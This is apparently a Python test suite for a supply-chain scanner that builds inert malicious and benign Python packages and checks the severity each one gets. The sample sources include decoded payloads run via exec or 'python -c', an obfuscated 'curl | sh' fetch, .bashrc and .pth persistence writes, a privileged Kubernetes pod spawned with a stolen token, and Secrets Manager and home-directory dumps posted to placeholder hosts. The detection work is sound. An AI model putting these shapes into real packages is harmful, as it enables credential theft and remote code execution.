"""Rules fixed after measuring recall and false positives on hand-made inert attack packages and
benign look-alikes (docs/capabilities-accuracy.md). Each fix has the attack shape (must be high or
critical) and the benign shape next to it (must not be), built as real wheels and sdists here.
Payloads are inert text, never run; hosts are 203.0.113.x and *.example."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
from pathlib import Path

from blastradius.capabilities.analyse import analyse_artifact, scan_python
from blastradius.capabilities.rules import RULES_VERSION

SHORT = base64.b64encode(b"import os\nos.system('id > /dev/null')\n").decode()
URL = "'http://203.0.113.50/c'"


def wheel(tmp: Path, name: str, files: dict[str, str]) -> Path:
    path = tmp / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for member, content in files.items():
            zf.writestr(member, content)
        zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n")
    return path


def sdist(tmp: Path, name: str, files: dict[str, str]) -> Path:
    path = tmp / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        for member, content in files.items():
            data = content.encode()
            info = tarfile.TarInfo(f"{name}-1.0/{member}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def analyse(tmp: Path, name: str, files: dict[str, str]):
    return analyse_artifact(wheel(tmp, name, files), use_cache=False)


def by_rule(analysis, rule_id: str) -> list:
    return [e for e in analysis.evidence if e.rule_id == rule_id]


def test_rules_version_bumped_for_these_changes():
    assert RULES_VERSION >= "2026.3"


# --- exec by another name: python -c / sh -c, exec wrappers, eval(repr(...)) -------------------
def test_decoded_code_run_as_python_dash_c_is_exec(tmp_path):
    # litellm 1.82.7: the payload ran as Popen([sys.executable, "-c", b64decode(...)]) on import
    src = (f"import base64, subprocess, sys\n_P = '{SHORT}'\n"
           "subprocess.Popen([sys.executable, '-c', base64.b64decode(_P).decode()])\n")
    a = analyse(tmp_path, "dashc", {"dashc/proxy_server.py": src})
    assert a.verdict == "critical"
    assert "(... -c ...)" in by_rule(a, "BR-EXEC-DECODED")[0].message


def test_plain_dash_c_and_decoding_elsewhere_is_not_exec(tmp_path):
    src = ("import base64, subprocess, sys\n"
           "def version():\n    return subprocess.check_output([sys.executable, '-c', 'import sys; print(sys.version)'])\n"
           "def icon(s):\n    return base64.b64decode(s)\n")
    a = analyse(tmp_path, "dashcok", {"dashcok/util.py": src})
    assert not by_rule(a, "BR-EXEC-DECODED")
    assert a.verdict not in ("high", "critical")


def test_exec_hidden_behind_a_lambda_wrapper(tmp_path):
    src = f"import base64\n_r = lambda c: exec(compile(c, '<m>', 'exec'))\n_r(base64.b64decode('{SHORT}'))\n"
    a = analyse(tmp_path, "lam", {"lam/__init__.py": src})
    assert a.verdict == "critical"
    assert "_r() (wraps exec)" in by_rule(a, "BR-EXEC-DECODED")[0].message


def test_exec_wrapper_def_with_a_template_is_not_flagged(tmp_path):
    # attrs/dataclasses-style code generation: a helper execs a template it built, not decoded data
    src = ("import base64\n"
           "def _make(script, ns):\n    exec(script, ns)\n    return ns\n"
           "def build(name):\n    return _make(f'def {name}(self): pass', {})\n"
           "def thumb(s):\n    return base64.b64decode(s)\n")
    a = analyse(tmp_path, "tmpl", {"tmpl/gen.py": src})
    assert not by_rule(a, "BR-EXEC-DECODED")
    # the same helper handed decoded data is caught
    bad = src + f"_make(base64.b64decode('{SHORT}'), {{}})\n"
    assert by_rule(analyse(tmp_path, "tmpl2", {"tmpl2/gen.py": bad}), "BR-EXEC-DECODED")


def test_eval_of_repr_of_decoded_fixture_is_a_round_trip_not_exec(tmp_path):
    src = ("import base64, zlib\nFIXTURE = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\n"
           "def test_roundtrip():\n    data = zlib.decompress(base64.b64decode(FIXTURE))\n"
           "    assert eval(repr(data)) == data\n")
    assert not by_rule(analyse(tmp_path, "rt", {"rt/tests/test_rt.py": src}), "BR-EXEC-DECODED")
    bad = src.replace("eval(repr(data))", "eval(data.decode())")
    assert by_rule(analyse(tmp_path, "rt2", {"rt2/tests/test_rt.py": bad}), "BR-EXEC-DECODED")


# --- names built from pieces that spell a sink -----------------------------------------------
def test_built_name_spelling_a_sink_is_high(tmp_path):
    src = "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl -s http://203.0.113.20/x | sh')\n"
    a = analyse(tmp_path, "obf", {"obf/__init__.py": src})
    assert a.verdict == "high"
    messages = [e.message for e in by_rule(a, "BR-OBFUSCATED-NAME") if e.severity == "high"]
    assert any("'os'" in m for m in messages) and any("'system'" in m for m in messages)


def test_built_name_that_is_not_a_sink_stays_medium(tmp_path):
    src = ("def field(obj, kind):\n    return getattr(obj, 'get_' + 'value')()\n"
           "def plugin(n):\n    return __import__('myapp.plugins.' + 'core')\n")
    a = analyse(tmp_path, "obfok", {"obfok/__init__.py": src})
    assert {e.severity for e in by_rule(a, "BR-OBFUSCATED-NAME")} == {"medium"}
    assert a.verdict == "medium"


# --- persistence: lifted when it runs on import or sits next to network ------------------------
def test_persistence_write_that_runs_on_import_is_high(tmp_path):
    src = ("import os\n\ndef _hook():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
           "        fh.write('\\nsudo shutdown -h 0\\n')\n\n_hook()\n")
    a = analyse(tmp_path, "rc", {"rc/__init__.py": src})
    [e] = by_rule(a, "BR-PERSISTENCE")
    assert (e.severity, e.line) == ("high", 4)
    assert "runs on import" in e.message


def test_pth_written_into_site_packages_on_import_is_high(tmp_path):
    # MrMustard 0.7.4 wrote an executable .pth at run time
    src = ("import os, site\n\ndef _persist():\n"
           "    target = os.path.join(site.getsitepackages()[0], 'tf_compat.pth')\n"
           "    with open(target, 'w') as fh:\n        fh.write('import tf_compat_hook\\n')\n\n_persist()\n")
    a = analyse(tmp_path, "tfc", {"tfc/__init__.py": src})
    assert [e.severity for e in by_rule(a, "BR-PERSISTENCE")] == ["high"]


def test_persistence_write_only_on_request_stays_medium(tmp_path):
    # a daemon that installs its own systemd user unit when asked; network lives in another module
    service = ("import os, subprocess, sys\n\ndef install_service():\n"
               "    path = os.path.expanduser('~/.config/systemd/user/syncd.service')\n"
               "    with open(path, 'w') as fh:\n        fh.write('[Service]\\nExecStart=%s\\n' % sys.executable)\n"
               "    subprocess.run(['systemctl', '--user', 'enable', 'syncd.service'])\n\n"
               "if __name__ == '__main__':\n    install_service()\n")
    client = "import requests\n\ndef push(files):\n    return requests.post('https://sync.example/api', json=files)\n"
    a = analyse(tmp_path, "syncd", {"syncd/service.py": service, "syncd/client.py": client})
    assert [e.severity for e in by_rule(a, "BR-PERSISTENCE")] == ["medium"]
    assert a.verdict == "medium"


def test_persistence_next_to_network_in_the_same_file_is_high(tmp_path):
    # litellm 1.82.8: a systemd user unit running a script that polls for the next stage
    src = ("import os, urllib.request\n\nPOLL = 'import urllib.request'\n\ndef install():\n"
           "    unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
           "    with open(unit, 'w') as fh:\n        fh.write('[Service]')\n"
           "def poll():\n    return urllib.request.urlopen('http://203.0.113.16/next')\n")
    a = analyse(tmp_path, "sysmon", {"sysmon/svc.py": src})
    [e] = by_rule(a, "BR-PERSISTENCE")
    assert e.severity == "high" and "network in the same file" in e.message


def test_privileged_host_mounting_pod_is_high(tmp_path):
    src = ("import json, urllib.request\nTOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
           "def spread():\n    token = open(TOKEN).read()\n"
           "    pod = {'spec': {'containers': [{'securityContext': {'privileged': True}}],\n"
           "                    'volumes': [{'name': 'h', 'hostPath': {'path': '/'}}]}}\n"
           "    req = urllib.request.Request('https://kubernetes.default.svc/api/v1/namespaces/kube-system/pods',\n"
           "                                 data=json.dumps(pod).encode(), headers={'Authorization': token})\n"
           "    urllib.request.urlopen(req)\n")
    a = analyse(tmp_path, "kpod", {"kpod/k.py": src})
    assert a.verdict == "high"
    assert "privileged Kubernetes pod" in by_rule(a, "BR-PERSISTENCE")[0].message


def test_kubernetes_client_shape_is_not_persistence(tmp_path):
    config = ("import os\nSERVICE_TOKEN_FILENAME = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
              "def load_incluster_config():\n    with open(SERVICE_TOKEN_FILENAME) as fh:\n        return fh.read()\n")
    api = ("import json, urllib3\nclass CoreV1Api:\n    def create_namespaced_pod(self, namespace, body):\n"
           "        return urllib3.PoolManager().request('POST', f'/api/v1/namespaces/{namespace}/pods',"
           " body=json.dumps(body))\n")
    models = "class V1SecurityContext:\n    attribute_map = {'privileged': 'privileged'}\n"
    a = analyse(tmp_path, "kclient", {"kclient/config.py": config, "kclient/api.py": api, "kclient/models.py": models})
    assert not by_rule(a, "BR-PERSISTENCE")
    assert a.verdict not in ("high", "critical")


# --- new credential sources: secret-store dumps, home-directory walks ------------------------
def test_secrets_manager_dump_sent_out_is_critical(tmp_path):
    src = ("import json, boto3, urllib.request\ndef dump():\n    sm = boto3.client('secretsmanager')\n"
           "    out = {s['Name']: sm.get_secret_value(SecretId=s['ARN'])['SecretString']\n"
           "           for s in sm.list_secrets()['SecretList']}\n"
           f"    urllib.request.urlopen({URL}, json.dumps(out).encode())\n")
    a = analyse(tmp_path, "smdump", {"smdump/sm.py": src})
    assert a.verdict == "critical"
    assert "secret-sweep" in by_rule(a, "BR-COMBO-EXFIL")[0].message


def test_generated_secrets_client_and_single_secret_read_are_not_sources(tmp_path):
    client = ("class SecretsManagerClient:\n    service_name = 'secretsmanager'\n"
              "    def get_secret_value(self, SecretId):\n        return self._call('GetSecretValue', SecretId)\n"
              "    def list_secrets(self):\n        return self._call('ListSecrets')\n")
    endpoint = "import urllib3\ndef send(req):\n    return urllib3.PoolManager().urlopen(req.method, req.url)\n"
    one = ("import boto3, requests\ndef db_password():\n"
           "    return boto3.client('secretsmanager').get_secret_value(SecretId='db')['SecretString']\n")
    a = analyse(tmp_path, "smok", {"smok/sm.py": client, "smok/endpoint.py": endpoint, "smok/db.py": one})
    assert not by_rule(a, "BR-COMBO-EXFIL")
    assert a.verdict not in ("high", "critical")


def test_home_directory_walk_uploaded_is_critical(tmp_path):
    src = ("import os, tarfile, requests\ndef backup():\n    home = os.path.expanduser('~')\n"
           "    with tarfile.open('/tmp/h.tar.gz', 'w:gz') as tar:\n"
           "        for root, dirs, files in os.walk(home):\n"
           "            for f in files:\n                tar.add(os.path.join(root, f))\n"
           "    requests.post('https://203.0.113.31/up', files={'f': open('/tmp/h.tar.gz', 'rb')})\n")
    a = analyse(tmp_path, "homebak", {"homebak/b.py": src})
    assert a.verdict == "critical"
    assert "home-directory" in by_rule(a, "BR-COMBO-EXFIL")[0].message


def test_walk_of_a_cache_below_home_is_not_a_source(tmp_path):
    src = ("import os, requests\nfrom pathlib import Path\nCACHE = Path.home() / '.cache' / 'hub'\n"
           "def sizes():\n    return [len(f) for _, _, f in os.walk(Path.home() / '.cache')]\n"
           "def fetch(url):\n    return requests.get(url)\n")
    a = analyse(tmp_path, "hubcache", {"hubcache/cache.py": src})
    assert not by_rule(a, "BR-COMBO-EXFIL")
    assert a.verdict not in ("high", "critical")


# --- evidence lines ----------------------------------------------------------------------------
def test_byte_level_evidence_lines_are_the_file_lines():
    src = b"import requests\nimport subprocess\n\ndef f():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')\n"
    result = scan_python("m.py", src)
    assert (result.network, result.subprocess) == (1, 2)
    assert [h[2] for h in result.hits if h[0] == "BR-PERSISTENCE"] == [5]


def test_setup_py_dash_c_decoded_is_flagged_in_an_sdist(tmp_path):
    setup = (f"import base64, subprocess, sys\nfrom setuptools import setup\n"
             f"subprocess.call([sys.executable, '-c', base64.b64decode('{SHORT}')])\nsetup(name='x')\n")
    a = analyse_artifact(sdist(tmp_path, "dashcsetup", {"setup.py": setup}), use_cache=False)
    assert by_rule(a, "BR-EXEC-DECODED") and a.verdict == "critical"
